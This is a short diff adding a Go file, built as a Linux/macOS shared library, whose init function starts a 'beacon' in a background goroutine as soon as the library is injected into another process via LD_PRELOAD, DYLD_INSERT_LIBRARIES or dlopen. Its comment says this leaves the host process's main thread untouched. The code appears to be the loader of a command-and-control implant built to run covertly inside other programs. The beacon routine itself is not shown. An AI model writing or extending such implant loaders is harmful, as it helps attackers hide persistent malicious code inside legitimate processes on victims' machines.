@@ -0,0 +1,11 @@
+//go:build shared && (linux || darwin)
+
+package main
+
+import "C"
+
+// init starts the beacon in a background goroutine as soon as the library is loaded
+// (LD_PRELOAD, DYLD_INSERT_LIBRARIES or dlopen), leaving the host process's main thread untouched.
+func init() {
+	go runBeacon()
+}